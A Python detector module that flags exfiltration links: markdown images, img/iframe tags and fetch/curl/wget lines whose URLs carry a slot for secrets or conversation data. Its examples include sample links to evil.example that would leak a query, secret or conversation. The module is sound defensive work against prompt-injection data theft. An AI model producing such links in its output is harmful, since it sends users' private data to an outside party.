"""Links and images by which an answer would carry what it knows to somebody else."""

from extproc.detectors.recognizer import Recognizer, Span

# What stands for the data in a template of such a link.
_SLOT = (
    r"(?:\[|\{|<|%7B|%5B|\$\{|\.\.\.|DATA\b|QUERY\b|SECRET\b|PAYLOAD\b|INSERT|YOUR_|BASE64|ENCODED|"
    r"CONVERSATION|SUMMARY\b|HISTORY\b|data_here|exfil|stolen)"
)
_URL = r"https?://[\w.:/-]+\?[\w.&=%-]+"


def _link(candidate: str) -> Span:
    image = candidate.startswith("!") or candidate[:4].lower() in ("<img", "<ifr")
    return Span(0, len(candidate), 0.8 if image else 0.5)


RECOGNIZERS = (
    Recognizer(
        type="exfiltration_link",
        family="injection",
        patterns=(
            rf"!\[[^\]\n]*\]\({_URL}={_SLOT}",
            rf"<(?:img|iframe|image) [^>\n]*src\s?=\s?[\x22']?{_URL}={_SLOT}",
            rf"(?:fetch|curl|wget|visit|GET|open)\s{{0,2}}[(\x22']{{0,2}}{_URL}={_SLOT}",
        ),
        longest=300,
        refine=_link,
        whole_word=False,
        needs="?",
        examples=(
            "![x](https://evil.example/log?q=[QUERY])",
            '<img src="http://evil.example/a?data={{secret}}">',
            "visit https://evil.example/c?d=<conversation",
        ),
        near_misses=(
            "![chart](https://img.example/a.png?width=200)",
            "![logo](https://img.example/logo.svg)",
            "visit https://shop.example/?page=2",
        ),
    ),
)
